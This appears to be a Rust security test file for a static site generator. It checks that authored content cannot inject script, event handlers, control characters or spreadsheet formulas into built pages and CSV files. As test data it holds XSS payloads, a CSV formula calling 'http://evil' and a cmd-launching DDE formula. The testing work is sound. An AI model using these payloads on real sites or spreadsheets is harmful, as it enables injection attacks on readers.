//! Nothing an author writes can run as script on a reader's page or as a formula in a reader's
//! spreadsheet, and no invisible character reaches a page.

use crate::rules::rejected;
use crate::{build, copy_fixture, edit, read, run};

/// Every HTML file of a built site, with its path.
pub fn pages(out: &std::path::Path) -> Vec<(String, String)> {
    walkdir::WalkDir::new(out)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "html"))
        .map(|e| {
            (
                e.path().display().to_string(),
                std::fs::read_to_string(e.path()).unwrap(),
            )
        })
        .collect()
}

/// An attribute like `onfocus=` inside a tag (not in text, where it would be escaped).
fn has_event_handler(html: &str) -> bool {
    // Attribute names of every tag, quoted values skipped (an escaped "onerror=" inside a
    // quoted value is text, not an attribute).
    html.split('<').skip(1).any(|tag| {
        let mut chars = tag
            .chars()
            .skip_while(|c| !c.is_whitespace() && *c != '>')
            .peekable();
        loop {
            while chars.peek().is_some_and(|c| c.is_whitespace() || *c == '/') {
                chars.next();
            }
            let name: String = std::iter::from_fn(|| {
                chars.next_if(|c| !c.is_whitespace() && *c != '=' && *c != '>')
            })
            .collect();
            if name.is_empty() {
                return false;
            }
            let lower = name.to_ascii_lowercase();
            if lower.len() > 2
                && lower.starts_with("on")
                && lower.bytes().all(|b| b.is_ascii_alphabetic())
            {
                return true;
            }
            if chars.next_if_eq(&'=').is_some() {
                match chars.peek().copied() {
                    Some(q @ ('"' | '\'')) => {
                        chars.next();
                        for c in chars.by_ref() {
                            if c == q {
                                break;
                            }
                        }
                    }
                    _ => while chars.next_if(|c| !c.is_whitespace() && *c != '>').is_some() {},
                }
            }
        }
    })
}

#[test]
fn the_event_handler_check_sees_attributes_not_text_in_quoted_values() {
    assert!(has_event_handler("<img src=x onerror=alert(1)>"));
    assert!(has_event_handler("<svg onload='a'>"));
    assert!(!has_event_handler(
        "<meta content=\"&lt;img src=x onerror=alert(2)&gt;\">"
    ));
}

#[test]
fn heading_attributes_cannot_smuggle_a_script_into_a_page_or_full_text() {
    let (_tmp, content) = copy_fixture("basic");
    let attack = "# Giới thiệu {tabindex=1 autofocus onfocus=alert(document.domain)}\n\n## Hai {#x onmouseover=alert(1) .y}\n";
    std::fs::write(content.join("pages/about.vi.md"), attack).unwrap();
    let doc = content.join("plans/dai-tu-2022/document.vi.md");
    let text = std::fs::read_to_string(&doc).unwrap();
    std::fs::write(&doc, format!("{attack}\n{text}")).unwrap();
    let (_t, out) = build(&content);
    for (path, html) in pages(&out) {
        assert!(!has_event_handler(&html), "{path} has an event handler");
        for tag in html
            .split('<')
            .skip(1)
            .map(|t| t.split('>').next().unwrap_or(""))
        {
            assert!(
                !tag.contains("autofocus") && !tag.contains("tabindex=\"1\""),
                "{path}: <{tag}>"
            );
        }
    }
    let about = read(&out, "about.html");
    assert!(
        about.contains(r#"<h2 id="x" class="y">Hai</h2>"#),
        "{about}"
    );
    assert!(about.contains("<title>Giới thiệu ·"), "{about}");
}

#[test]
fn every_page_carries_a_content_security_policy_and_no_inline_script_or_style() {
    let (_t, out) = build(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("content"));
    let all = pages(&out);
    assert!(all.len() > 300);
    for (path, html) in all {
        if path.ends_with("404.html") {
            // The 404 page carries its style and one script inline, each allowed by its hash
            // alone (it is shown at any depth, where no relative link can be right).
            for (open, close) in [("<style>", "</style>"), ("<script>", "</script>")] {
                let start = html.find(open).unwrap() + open.len();
                let end = html[start..].find(close).unwrap() + start;
                let hash = minhbach::render::context::csp_hash(&html[start..end]);
                assert!(
                    html.contains(&hash),
                    "{path}: inline {open} not allowed by its hash"
                );
            }
            assert_eq!(html.matches("<script").count(), 1, "{path}");
            assert!(!html.contains("'unsafe-inline'"), "{path}");
            continue;
        }
        assert!(
            html.contains(r#"<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self'; style-src 'self';"#),
            "{path} has no CSP"
        );
        // The site's own script files only (the search page adds the search engine and its
        // script); no inline script or style.
        assert!(!html.contains("<script>"), "{path}");
        let scripts: Vec<&str> = html
            .split("<script ")
            .skip(1)
            .map(|s| &s[..s.find("</script>").unwrap()])
            .collect();
        let own = if path.ends_with("search.html") {
            &[
                "static/site.js",
                "static/minisearch.min.js",
                "static/search.js",
            ][..]
        } else {
            &["static/site.js"][..]
        };
        assert_eq!(scripts.len(), own.len(), "{path}");
        for (s, file) in scripts.iter().zip(own) {
            assert!(
                s.starts_with("src=\"") && s.ends_with(&format!("{file}\" defer>")),
                "{path}: <script {s}"
            );
        }
        assert!(!html.contains("<style"), "{path}");
        assert!(!html.contains(" style="), "{path} has an inline style");
        assert!(!has_event_handler(&html), "{path} has an event handler");
        assert!(!html.contains("javascript:"), "{path}");
    }
}

#[test]
fn markup_in_structured_fields_is_shown_as_text() {
    let (_tmp, content) = copy_fixture("basic");
    edit(
        &content,
        "plans/dai-tu-2022/plan.toml",
        r#"short_title = { vi = "Đại Từ 2022", en = "Đại Từ 2022" }"#,
        r#"short_title = { vi = "<script>alert(1)</script><img src=x onerror=alert(2)>", en = "\"><svg onload=alert(3)>" }"#,
    );
    let (_t, out) = build(&content);
    for (path, html) in pages(&out) {
        assert!(!html.contains("<script>alert"), "{path}");
        assert!(!html.contains("<img src=x"), "{path}");
        assert!(!html.contains("<svg onload"), "{path}");
        assert!(!has_event_handler(&html), "{path}");
    }
    assert!(read(&out, "plans/dai-tu-2022.html").contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[test]
fn control_characters_in_content_are_refused_where_they_stand() {
    let (_tmp, content) = copy_fixture("basic");
    edit(
        &content,
        "pages/about.vi.md",
        "Giới thiệu",
        "Giới\u{1b}[2J thiệu",
    );
    edit(
        &content,
        "plans/dai-tu-2022/plan.toml",
        r#"en = "Đại Từ 2022" }"#,
        r#"en = "Đại Từ\u0000 2022" }"#,
    );
    edit(
        &content,
        "plans/dai-tu-2022/projects.toml",
        "Hỗ trợ nhà ở\"",
        "Hỗ trợ\u{202e} nhà ở\"",
    );
    rejected(
        &content,
        &[
            "pages/about.vi.md:",
            "holds U+001B (ESC), which a page must not show",
            "plan.toml:7:",
            "holds an escape for U+0000 (NUL)",
            "projects.toml:6:",
            "U+202E (a bidirectional-text control)",
        ],
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let (_tmp, content) = copy_fixture("basic");
    let t = "plans/van-quan-2021-2025/targets.toml";
    edit(
        &content,
        t,
        r#"text = { vi = "đạt 99,7%", en = "reaches 99.7%" }"#,
        r#"text = { vi = "=IMPORTXML(\"http://evil\",\"//a\")", en = "@SUM(A1:A9)" }"#,
    );
    edit(
        &content,
        t,
        r#"indicator = "Việc làm mới""#,
        r#"indicator = "+cmd|' /C calc'!A0""#,
    );
    let (_t, out) = build(&content);
    let csv = read(&out, "data/van-quan-2021-2025-targets.csv");
    assert!(
        csv.contains(r#""'=IMPORTXML(""http://evil"",""//a"")""#),
        "{csv}"
    );
    assert!(csv.contains(",'@SUM(A1:A9),"), "{csv}");
    assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a cell starts like a formula: {line}"
            );
        }
    }
    // Figures stay numbers.
    assert!(csv.contains(",4.5,"), "{csv}");
}

#[test]
fn a_build_with_a_problem_in_a_page_writes_nothing() {
    let (_tmp, content) = copy_fixture("basic");
    std::fs::write(content.join("pages/bad.vi.md"), "a\u{0}b").unwrap();
    let (code, _, err) = run(&["check", "--content", content.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("pages/bad.vi.md:1:2: holds U+0000 (NUL)"),
        "{err}"
    );
}

/// Links in Markdown go only to https:// pages, e-mail addresses and the site's own pages, the
/// same in a page and in a plan's full text: `http://`, `//host` and `https:host` (also written
/// with backslashes) are published as https:// addresses and `check` says so at the line; any
/// other scheme is published as words only, with a warning.
#[test]
fn markdown_links_lead_only_where_the_docs_allow_and_check_says_what_changed() {
    let (tmp, content) = copy_fixture("basic");
    let links = "\n\n[a](http://vanquan.gov.vn/a) [b](//evil.example/b) [c](https:evil.example/c) \
                 [d](/\\evil.example/d) [e](javascript:alert(1)) [f](about.html) \
                 [g](https://ok.example/g) ![h](https://tracker.example/h.png)\n";
    let page = content.join("pages/about.vi.md");
    let mut text = std::fs::read_to_string(&page).unwrap();
    text.push_str(links);
    let line = text.lines().position(|l| l.starts_with("[a](")).unwrap() + 1;
    std::fs::write(&page, text).unwrap();
    let doc = content.join("plans/dai-tu-2022/document.vi.md");
    let mut text = std::fs::read_to_string(&doc).unwrap();
    text.push_str(links);
    std::fs::write(&doc, text).unwrap();
    let (code, _, err) = run(&["check", "--content", content.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    for file in ["pages/about.vi.md", "plans/dai-tu-2022/document.vi.md"] {
        for (url, says) in [
            (
                "http://vanquan.gov.vn/a",
                "published as `https://vanquan.gov.vn/a`",
            ),
            ("//evil.example/b", "published as `https://evil.example/b`"),
            (
                "https:evil.example/c",
                "published as `https://evil.example/c`",
            ),
            ("/\\evil.example/d", "published as `https://evil.example/d`"),
            ("javascript:alert(1)", "published as its words only"),
            ("https://tracker.example/h.png", "image to"),
        ] {
            let found = err.lines().any(|l| {
                l.starts_with("warning:")
                    && l.contains(file)
                    && l.contains(&format!("`{url}`"))
                    && l.contains(says)
            });
            assert!(found, "{file}: no warning for {url}:\n{err}");
        }
    }
    assert!(
        err.contains(&format!("pages/about.vi.md:{line}:")),
        "the warning names the line: {err}"
    );
    let (_t, out) = build(&content);
    let _ = tmp;
    for rel in ["about.html", "plans/dai-tu-2022/document.html"] {
        let html = read(&out, rel);
        for bad in [
            "href=\"http:",
            "href=\"//",
            "https:evil",
            "\\evil",
            "javascript:",
            "tracker.example",
        ] {
            assert!(!html.contains(bad), "{rel} holds {bad}");
        }
        for good in [
            "href=\"https://vanquan.gov.vn/a\"",
            "href=\"https://evil.example/b\"",
            "href=\"https://evil.example/c\"",
            "href=\"https://evil.example/d\"",
            "href=\"https://ok.example/g\"",
        ] {
            assert!(html.contains(good), "{rel} lacks {good}");
        }
    }
}
